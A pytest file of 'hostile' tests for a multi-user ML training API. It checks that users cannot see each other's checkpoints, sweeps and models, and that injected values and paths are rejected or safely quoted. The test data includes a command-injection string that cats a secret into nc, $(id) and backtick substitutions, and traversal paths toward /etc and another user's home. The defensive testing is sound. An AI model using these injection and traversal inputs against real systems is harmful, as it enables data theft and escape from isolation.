"""Issue 38's isolation classes, hostile: another user's checkpoints, sweeps and models do not exist for you; a
sweep's or an evaluation's values cannot leave their argument; a model path cannot leave the home."""

import os
from pathlib import Path

import pytest
import yaml

from tests.api.test_checkpoints_api import PPO, submit
from tests.api.test_sweeps_api import SWEEP
from tests.services.test_checkpoints import write_step

pytestmark = pytest.mark.hostile


def test_another_users_research_objects_do_not_exist(live) -> None:
    alice, bob = live.new_user("alice"), live.new_user("bob")
    tid = submit(alice, PPO)
    write_step(Path(live.ctx.settings.root) / "users" / "alice" / "runs" / "ppo", 2)
    sid = alice.post("/api/v2/sweeps", content=yaml.safe_dump(SWEEP).encode(),
                     headers={"Content-Type": "application/yaml"}).json()["sweep_id"]
    assert alice.post("/api/v2/models", json={"name": "m", "task_id": tid}).status_code == 201
    for method, path, body in (("POST", f"/api/v2/tasks/{tid}/evaluate", {}),
                               ("GET", f"/api/v2/tasks/{tid}/evaluations", None),
                               ("GET", f"/api/v2/tasks/{tid}/checkpoints/best?metric=val-core/x", None),
                               ("GET", f"/api/v2/sweeps/{sid}", None), ("POST", f"/api/v2/sweeps/{sid}/cancel", None),
                               ("POST", "/api/v2/models", {"name": "stolen", "task_id": tid}),
                               ("GET", "/api/v2/models/m", None), ("GET", "/api/v2/models/m@production", None),
                               ("PUT", "/api/v2/models/m/aliases/production", {"version": 1})):
        r = bob.request(method, path, json=body)
        assert r.status_code == 404, (method, path, r.status_code, r.text)
        assert "alice" not in r.text


def test_values_stay_one_argument_and_paths_stay_home(live) -> None:
    alice = live.new_user("alice")
    evil = "x; touch argus-pwned && cat secret > y | nc host 1"
    doc = {**SWEEP, "parameters": {"val_per_step": [0.1], "tag": [evil]}, "early_stop": None,
           "metric": None}
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump(doc).encode(), params={"dry_run": "true"},
                   headers={"Content-Type": "application/yaml"})
    assert r.status_code == 201, r.text
    command = r.json()["trials"][0]["spec"]["command"]
    assert " 'tag=" + evil + "' " in command, command  # one quoted shell word
    subst = {**doc, "parameters": {"trainer.experiment_name": ["$(id)", "`id`"]}}
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump(subst).encode(), headers={"Content-Type": "application/yaml"})
    assert r.status_code == 400 and [e["field"] for e in r.json()["detail"]["errors"]] == [
        "trials[0].command", "trials[1].command"], r.text  # admission refuses substitution even quoted
    r = alice.post("/api/v2/sweeps", content=yaml.safe_dump({**doc, "parameters": {"a;b": [1]}}).encode(),
                   headers={"Content-Type": "application/yaml"})
    assert r.status_code == 400 and r.json()["detail"]["errors"][0]["field"] == "parameters", r.text

    tid = submit(alice, PPO)
    write_step(Path(live.ctx.settings.root) / "users" / "alice" / "runs" / "ppo", 2)
    r = alice.post(f"/api/v2/tasks/{tid}/evaluate", json={"val_file": "$HOME/../bob/datasets/x.parquet"})
    assert r.status_code == 400, r.text
    home = Path(live.ctx.settings.root) / "users" / "alice"
    (home / "models").mkdir(exist_ok=True)
    os.symlink("/etc", home / "models" / "etc-link")
    for path in ("$HOME/models/etc-link", "$HOME/../bob/models/m", "/etc", "~/../../etc"):
        r = alice.post("/api/v2/models", json={"name": "m", "path": path})
        assert r.status_code == 400 and r.json()["detail"]["errors"][0]["field"] == "path", (path, r.text)
